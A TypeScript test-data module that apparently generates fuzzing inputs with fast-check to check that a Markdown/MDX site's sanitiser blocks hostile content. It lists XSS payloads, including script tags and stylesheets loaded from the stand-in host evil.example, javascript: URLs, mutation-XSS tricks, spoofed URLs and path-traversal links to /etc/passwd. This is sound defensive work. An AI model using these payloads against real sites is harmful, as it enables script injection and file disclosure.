import fc from 'fast-check'

/** The name under which code of a payload leaves a trace, in Node and in a browser alike. */
export const SENTINEL = 'watchbookSentinel'
/** In Node it also writes to the file that the environment names. No quotation marks: it has to fit everywhere. */
export const RUN = `(globalThis.${SENTINEL}=1,globalThis.process?.getBuiltinModule?.(/fs/.source).appendFileSync(process.env.WATCHBOOK_SENTINEL,1+[]))`
/** A host that no page may lead to or ask for anything. */
export const EVIL = 'evil.example'

const ELEMENTS =
  'a acronym address animate animateMotion animateTransform annotation-xml applet area article aside astro-island astro-slot audio base basefont bgsound big blink body button canvas center command content data datalist defs desc dialog dir embed fieldset font footer foreignObject form frame frameset h1 head header hgroup html iframe image img input isindex keygen label layer legend link listing main map marquee math maction menu menuitem meta meter mglyph mtext multicol nav nextid nobr noembed noframes noscript object on-call-now optgroup option output param path picture plaintext portal progress rb rtc script search search-page section select set shadow slot source spacer strike style svg template textarea title track tt use video x xmp svg:script html:script'.split(
    ' ',
  )
const ALLOWED =
  'abbr b blockquote br cite code details div em h2 hr i kbd li mark ol p pre q s small span strong sub summary table td tr u ul'.split(
    ' ',
  )
const HANDLERS =
  'onabort onafterprint onanimationend onanimationstart onauxclick onbeforeinput onbeforematch onbeforetoggle onbeforeunload onblur oncanplay onchange onclick oncontextmenu oncopy oncut ondblclick ondrag ondrop onended onerror onfocus onfocusin onhashchange oninput oninvalid onkeydown onload onmessage onmousedown onmouseenter onmousemove onmouseover onpageshow onpaste onpointerdown onpointerenter onpointerrawupdate onpopstate onreset onresize onscroll onscrollend onsecuritypolicyviolation onselect onselectstart onslotchange onsubmit ontoggle ontouchstart ontransitionend ontransitionrun onunload onwheel'.split(
    ' ',
  )
const ATTRIBUTES =
  'accesskey action autofocus background charset cite class client:load client:only client:visible content contenteditable data-astro-cid data-pagefind-body data-pagefind-ignore data-pagefind-meta data-theme define:vars download dynsrc enctype exportparts for form formaction formtarget headers hidden href http-equiv id inert innerHTML integrity is is:global is:inline is:raw itemprop itemscope key longdesc lowsrc manifest method name nonce part ping popover popovertarget ref role sandbox server:defer set:html set:text slot src srcdoc srcset style tabindex target transition:name type usemap vocab xlink:href xml:base xmlns xmlns:xlink'.split(
    ' ',
  )
const SCHEMES =
  'javascript vbscript data file blob ftp view-source intent ssh ms-msdt about chrome resource jar mhtml ws wss filesystem livescript mocha feed steam slack zoommtg x-apple.systempreferences search-ms htps ttps htp C'.split(
    ' ',
  )
const IMPOSTORS = [
  `//${EVIL}/`,
  `\\\\${EVIL}/`,
  `/\\${EVIL}/`,
  `https://github.com@${EVIL}/`,
  `https://user:word@${EVIL}/`,
  `https:/${EVIL}`,
  `https:${EVIL}`,
  `https:\\\\${EVIL}`,
  'https://gіthub.com/',
  'https://xn--gthub-n4a.com@github.com/',
  'https://g%69thub.com/',
  'https://0x7f.1/',
  'https://2130706433/',
  'https://①.example/',
  'https://github。com/',
  'http://[::1',
  'http://',
  'https://',
  'mailto:a@b.example?bcc=c@d.example',
  'mailto:a@b.example,c@d.example',
  'mailto:?to=a@b.example',
  'tel:*21*5550100%23',
  `https://a.example/%0d%0aSet-Cookie:x`,
  'https://a.example/\u202egpj.exe',
  'https://a.example/\u200bx',
]

const anyCase = (word: string) =>
  fc
    .array(fc.boolean(), { minLength: word.length, maxLength: word.length })
    .map((upper) => [...word].map((letter, at) => (upper[at] ? letter.toUpperCase() : letter)).join(''))

/** A word, or the same with other cases, entities or invisible letters in it. */
const disguised = (word: string) =>
  fc.oneof(
    fc.constant(word),
    anyCase(word),
    fc
      .nat(word.length - 1)
      .map((at) => `${word.slice(0, at)}&#${String(word.charCodeAt(at))};${word.slice(at + 1)}`),
    fc
      .nat(word.length - 1)
      .map((at) => `${word.slice(0, at)}&#x${word.charCodeAt(at).toString(16)};${word.slice(at + 1)}`),
    fc
      .tuple(
        fc.nat(word.length),
        fc.constantFrom('&Tab;', '&NewLine;', '&#1;', '&#0;', '&ZeroWidthSpace;', '&shy;'),
      )
      .map(([at, inside]) => `${word.slice(0, at)}${inside}${word.slice(at)}`),
  )

const address = fc.oneof(
  fc
    .tuple(
      fc.constantFrom(...SCHEMES).chain(disguised),
      fc.constantFrom(':', '&colon;', '&#58;', ':/', '://'),
    )
    .map(([scheme, colon]) => `${scheme}${colon}${RUN.replaceAll(' ', '')}`),
  fc.constantFrom(...IMPOSTORS),
)

const quote = fc.constantFrom(
  (value: string) => `"${value}"`,
  (value: string) => `'${value.replaceAll("'", '&#39;')}'`,
  (value: string) => value.replaceAll(/[\s>"'`=<]/g, '/'),
)

const attribute = fc.oneof(
  fc
    .tuple(fc.constantFrom(...HANDLERS).chain(anyCase), quote)
    .map(([name, quoted]) => `${name}=${quoted(RUN)}`),
  fc
    .tuple(
      fc.constantFrom(...ATTRIBUTES),
      quote,
      fc.oneof(address, fc.constant(`<img src=x onerror=${RUN}>`)),
    )
    .map(([name, quoted, value]) => `${name}=${quoted(value)}`),
  fc.constantFrom(...ATTRIBUTES),
)
const attributes = fc.array(attribute, { minLength: 1, maxLength: 3 }).map((list) => list.join(' '))
const gap = fc.constantFrom(' ', '\n', '/', '\t', ' / ')

/** Raw HTML with something in it that no page may have. */
export const html = fc.oneof(
  fc
    .tuple(fc.constantFrom(...ELEMENTS).chain(anyCase), gap, attributes, fc.boolean())
    .map(([name, space, list, closes]) => `<${name}${space}${list}>${closes ? `${RUN}</${name}>` : ''}`),
  fc.constantFrom(...ELEMENTS).map((name) => `<${name}>${RUN}</${name}>`),
  fc
    .tuple(fc.constantFrom(...ALLOWED).chain(anyCase), gap, attributes)
    .map(([name, space, list]) => `<${name}${space}${list}>x</${name}>`),
  fc.constantFrom(
    `</p><script>${RUN}</script>`,
    `</div></main><script>${RUN}</script>`,
    `<?x ?><script>${RUN}</script>`,
    `<!DOCTYPE html><script>${RUN}</script>`,
    `<!-- a --!><img src=x onerror=${RUN}><!-- b -->`,
    `<!--><img src=x onerror=${RUN}>-->`,
    `<!---><img src=x onerror=${RUN}>-->`,
    `<![CDATA[><img src=x onerror=${RUN}>]]>`,
    `</ x><img src=x onerror=${RUN}>`,
    `<p title="</p><img src=x onerror=${RUN}>">x</p><img src=x onerror=${RUN}>`,
    `<b title="\n\nx" onclick=${RUN}>b</b>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
    `<svg><style><img src=x onerror=${RUN}></style></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
    `<textarea><script>${RUN}</script>`,
    `<plaintext>`,
    `<img src=x onerror=${RUN}//`,
    `<img src="x\`onerror=${RUN}">`,
    `<scr<script>ipt>${RUN}</script>`,
    `<script/src=//${EVIL}/x.js></script>`,
    `<meta http-equiv="refresh" content="0;url=https://${EVIL}/">`,
    `<base href="https://${EVIL}/">`,
    `<link rel=stylesheet href=//${EVIL}/x.css>`,
    `<form name="documentElement"><input name="action"></form>`,
    `<ul><li><div><li>x</li></div></li></ul>`,
    `<table><td></table></td></div></main>`,
    `<on-call-now><script type="application/json">{}</script></on-call-now>`,
    `<b></b></b></div>`,
    `</main>`,
    `</body></html>`,
  ),
)

/** JavaScript in the places where MDX takes it. */
export const mdx = fc.oneof(
  fc.constantFrom(
    `{${RUN}}`,
    `{/* a */ ${RUN} /* b */}`,
    `{/* a */ (${RUN}, "") /* */}`,
    `{/**/${RUN}/**/}`,
    `{// c\n${RUN}}`,
    `{"a" + ${RUN}}`,
    `{\`\${${RUN}}\`}`,
    `{(() => { ${RUN} })()}`,
    `{async () => ${RUN}}`,
    `{await import('node:fs')}`,
    `{new (class { constructor() { ${RUN} } })()}`,
    `{[${RUN}]}`,
    `{\`\`}`,
    `{''}`,
    `{1}`,
    `{props.x}`,
    `{import.meta.env}`,
    `{<b>{${RUN}}</b>}`,
    `<span title={${RUN}}>x</span>`,
    `<span {...(${RUN}, {})}>x</span>`,
    `<span {...{title: ${RUN}}}>x</span>`,
    `<span title={<b>{${RUN}}</b>}>x</span>`,
    `<span title={\`\${${RUN}}\`}>x</span>`,
    `<kbd data-x={${RUN}}>k</kbd>`,
    `<span title={"a"}>x</span>`,
    `<div set:html="<img src=x onerror=${RUN}>" />`,
    `<span set:text="x">y</span>`,
    `<span slot="head">x</span>`,
    `<div is:raw>x</div>`,
    `<div client:load>x</div>`,
    `<Fragment set:html="<script>${RUN}</script>" />`,
    `<Image src="https://${EVIL}/x.png" />`,
    `<Foo client:only="x" />`,
    `<a.b/>`,
    `<svg:x/>`,
    `<></>`,
    `<>{${RUN}}</>`,
    `<this.x/>`,
    `<MDXLayout>x</MDXLayout>`,
    `<components.p>x</components.p>`,
    `<script>{\`${RUN}\`}</script>`,
    `<style>{\`@import "https://${EVIL}/x.css"\`}</style>`,
    `<img src="x" onerror="${RUN}" />`,
    `<a href="javascript:${RUN}">x</a>`,
    `<div onClick="${RUN}">x</div>`,
    `<div className="x">y</div>`,
    `<div dangerouslySetInnerHTML="x">y</div>`,
    `<li>x</li>`,
    `<ul><li><div><li>x</li></div></li></ul>`,
  ),
  fc
    .tuple(fc.constantFrom(...ALLOWED), fc.constantFrom(...ATTRIBUTES, ...HANDLERS))
    .map(([name, each]) => `<${name} ${each}="${RUN}">x</${name}>`),
  fc.constantFrom(...ELEMENTS).map((name) => `<${name}>x</${name}>`),
)

/** Statements of a module, which stand at the beginning of a line. */
export const esm = fc.constantFrom(
  `import fs from 'node:fs'`,
  `import '../files/evil.mjs'`,
  `export const x = ${RUN}`,
  `export default function () { return ${RUN} }`,
  `export { default } from '../files/evil.mjs'`,
  `export const frontmatter = { layout: '../files/evil.mjs' }`,
)

/** Links and images of Markdown that lead where none may. */
export const link = fc.oneof(
  fc.tuple(fc.constantFrom('[x](', '![x]('), address).map(([begin, to]) => `${begin}${to})`),
  fc.tuple(fc.constantFrom('[x](<', '![x](<'), address).map(([begin, to]) => `${begin}${to}>)`),
  fc
    .tuple(fc.constantFrom('[x][r]', '![x][r]', '[r]', '![r]'), address)
    .map(([use, to]) => `${use}\n\n[r]: ${to}\n`),
  fc.tuple(fc.constantFrom('[x][r]', '![x][r]'), address).map(([use, to]) => `${use}\n\n[r]: <${to}> "t"\n`),
  address.map((to) => `<${to}>`),
  fc.constantFrom(
    `![x](../files/evil.mjs)`,
    `![x](sharp)`,
    `![x](node:fs)`,
    `![x](virtual:x)`,
    `![x](astro:content)`,
    `![x](../images/x.png?raw)`,
    `![x](../images/x.png?url)`,
    `![x](../images/x.png#y)`,
    `![x](../images/%2e%2e/x.png?import)`,
    `![x](%)`,
    `![x](../../package.json)`,
    `![x](/etc/passwd)`,
    `![x](/favicon.svg)`,
    `![x](../images/x.png%00.mjs)`,
    `![x](../issues/orders-late.md)`,
    `![x](https://${EVIL}/x.png)`,
    `[https://github.com/a](https://${EVIL}/)`,
    `![x][]\n\n[x]: //${EVIL}/x.png`,
  ),
)

/** Marks of the programs behind the site. */
export const mark = fc.constantFrom(
  `__ASTRO_IMAGE_="1"`,
  `\\_\\_ASTRO\\_IMAGE\\_="{}"`,
  `&#95;&#95;ASTRO&#95;IMAGE&#95;="1"`,
  `\`__VITE_ASSET__abc__\``,
  `__AST<!-- -->RO_IMAGE_="1"`,
  `@@ASTRO_MANIFEST_REPLACE@@`,
  `\`\`\`text\n__VITE_PRELOAD__\n\`\`\``,
  `[x](https://a.example/__ASTRO_IMAGE_)`,
  `[x](https://a.example/ "__ASTRO_IMAGE_=")`,
  `![x](../images/x.png "__ASTRO_IMAGE_=")`,
  `<b title="__ASTRO_IMAGE_=">x</b>`,
  `[x][r]\n\n[r]: https://a.example "&#95;_VITE_ASSET__x__"\n`,
  `[x](#__VITE_x)`,
  `\`\`\`sh test="none: __ASTRO_IMAGE_"\nls\n\`\`\``,
)

/** Where a payload stands in a page. The line breaks decide how Markdown reads it. */
export const place = fc.constantFrom(
  (payload: string) => payload,
  (payload: string) => `text ${payload} text`,
  (payload: string) => `text\n${payload}\ntext`,
  (payload: string) => `- item ${payload}\n- other`,
  (payload: string) => `> quoted\n>\n> ${payload.replaceAll('\n', '\n> ')}`,
  (payload: string) => `| a | b |\n| - | - |\n| ${payload.replaceAll('\n', ' ')} | c |`,
  (payload: string) => `### ${payload.replaceAll('\n', ' ')}`,
  (payload: string) => `<div>\n${payload}\n</div>`,
  (payload: string) => `<div>\n\n${payload}\n\n</div>`,
  (payload: string) => `<details>\n<summary>s</summary>\n\n${payload}\n\n</details>`,
  (payload: string) => `**bold ${payload.replaceAll('\n', ' ')}**`,
  (payload: string) => `note[^1]\n\n[^1]: ${payload.replaceAll('\n', ' ')}`,
  (payload: string) => `[text ${payload.replaceAll('\n', ' ')}](https://example.com/)`,
  (payload: string) => `1. step\n\n   ${payload.replaceAll('\n', '\n   ')}`,
  (payload: string) => `<!-- x -->\n${payload}`,
  (payload: string) => `text <!-- x --> ${payload}`,
  (payload: string) => `<b>${payload}</b>`,
  (payload: string) => `<br>${payload}`,
  (payload: string) => `<table><tr><td>\n\n${payload}\n\n</td></tr></table>`,
  (payload: string) => `- [ ] ${payload}`,
  (payload: string) => `![${payload.replaceAll('\n', ' ')}](../images/x.png)`,
)

/** A page body with one payload in it, and whether it is MDX. */
export const body = fc
  .oneof(
    { weight: 4, arbitrary: fc.record({ format: fc.constant('md' as const), payload: html, at: place }) },
    { weight: 3, arbitrary: fc.record({ format: fc.constant('mdx' as const), payload: mdx, at: place }) },
    { weight: 1, arbitrary: fc.record({ format: fc.constant('mdx' as const), payload: html, at: place }) },
    {
      weight: 1,
      arbitrary: fc.record({
        format: fc.constant('mdx' as const),
        payload: esm,
        at: fc.constantFrom(
          (payload: string) => payload,
          (payload: string) => `text\n\n${payload}\n\ntext`,
        ),
      }),
    },
    {
      weight: 3,
      arbitrary: fc.record({
        format: fc.constantFrom('md' as const, 'mdx' as const),
        payload: link,
        at: place,
      }),
    },
    {
      weight: 1,
      arbitrary: fc.record({
        format: fc.constantFrom('md' as const, 'mdx' as const),
        payload: mark,
        at: place,
      }),
    },
  )
  .map(({ format, payload, at }) => ({ format, text: `${at(payload)}\n` }))
